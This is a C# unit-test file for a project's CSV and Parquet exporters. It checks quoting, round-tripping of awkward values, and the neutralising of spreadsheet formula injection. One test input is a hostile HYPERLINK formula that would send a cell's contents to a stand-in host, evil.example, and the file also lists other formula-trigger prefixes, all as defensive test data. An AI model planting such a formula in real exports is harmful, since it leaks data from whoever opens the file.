using Koshi.Web.Analytics;
using Parquet.Serialization;

namespace Koshi.Web.Tests;

/// <summary>The export formats on their own: awkward text survives CSV, nulls and decimals survive Parquet.</summary>
public sealed class ExportsTests
{
    private static readonly Dataset Awkward = new("awkward", "Cells that break careless writers.", "none",
        [new("name", ColumnKind.Text, "text"), new("count", ColumnKind.Integer, "int"), new("share", ColumnKind.Decimal, "decimal"), new("flag", ColumnKind.Boolean, "bool")],
        [
            ["plain", 1, 12.5m, true],
            ["a, comma", -3, 0.1m, false],
            ["a \"quote\"", 0, null, null],
            ["two\r\nlines\nand a lone\rCR", null, 100m, true],
            ["=SUM(A1:A9)", 2_000_000_000, -7.25m, false],
            ["", 7, 33.3m, null],
            ["Қостанай облысы — Костанайская", 5, 99.9m, true],
        ]);

    [Fact]
    public void Csv_quotes_by_rfc_4180_and_reads_back_cell_for_cell()
    {
        var csv = Exports.Csv(Awkward);
        var rows = AnalyticsTests<Infrastructure.SqliteFactory>.ParseCsv(csv);
        Assert.Equal(["name", "count", "share", "flag"], rows[0]);
        Assert.Equal(Awkward.Rows.Count + 1, rows.Count);
        Assert.Equal(["a, comma", "-3", "0.1", "false"], rows[2]);
        Assert.Equal(["a \"quote\"", "0", "", ""], rows[3]);
        Assert.Equal(["two\r\nlines\nand a lone\rCR", "", "100", "true"], rows[4]);
        // A formula is defused for spreadsheets, and says so with a leading apostrophe.
        Assert.Equal(["'=SUM(A1:A9)", "2000000000", "-7.25", "false"], rows[5]);
        Assert.Equal(["Қостанай облысы — Костанайская", "5", "99.9", "true"], rows[7]);
        Assert.Contains("\"a \"\"quote\"\"\"", csv, StringComparison.Ordinal);
        Assert.EndsWith("\r\n", csv, StringComparison.Ordinal);
    }

    [Fact]
    public void A_hostile_name_cannot_become_a_formula_in_a_spreadsheet()
    {
        const string hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
        var names = new[] { hyperlink, "+7 700 000 0000", "-2+3", "@SUM(A1)", "\tTab", "Safe - with a dash" };
        var table = Awkward.With([.. names.Select((name, i) => new object?[] { name, -(i + 1), -0.5m, true })]);

        var csv = Exports.Csv(table);
        var rows = AnalyticsTests<Infrastructure.SqliteFactory>.ParseCsv(csv);

        Assert.Equal(["'" + hyperlink, "-1", "-0.5", "true"], rows[1]);
        Assert.Equal(["'+7 700 000 0000", "'-2+3", "'@SUM(A1)", "'\tTab", "Safe - with a dash"], rows.Skip(2).Select(r => r[0]));
        // Figures are not text: a negative number stays a number.
        Assert.All(rows.Skip(1), r => Assert.StartsWith("-", r[1], StringComparison.Ordinal));
        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\"", csv, StringComparison.Ordinal);
        Assert.DoesNotContain("\n=", csv, StringComparison.Ordinal);
        Assert.False(csv.StartsWith('\uFEFF'), "The exports never had a byte order mark.");
        Assert.Equal(names.Length + 1, csv.Split("\r\n").Length - 1);
    }

    [Fact]
    public async Task Parquet_reads_back_the_same_types_and_values()
    {
        var bytes = Exports.Parquet(Awkward);
        var read = await ParquetSerializer.DeserializeUntypedAsync(new MemoryStream(bytes), cancellationToken: TestContext.Current.CancellationToken);
        Assert.Equal(["name", "count", "share", "flag"], read.Schema.DataFields.Select(f => f.Name));
        Assert.Equal(Awkward.Rows.Count, read.Data.Count);
        for (var i = 0; i < Awkward.Rows.Count; i++)
        {
            var expected = Awkward.Rows[i];
            // The untyped reader leaves a null cell out of its row.
            var actual = read.Data[i];
            Assert.Equal(expected[0], actual.GetValueOrDefault("name"));
            Assert.Equal(expected[1], actual.GetValueOrDefault("count"));
            Assert.Equal(expected[2], actual.GetValueOrDefault("share"));
            Assert.Equal(expected[3], actual.GetValueOrDefault("flag"));
        }
    }
}
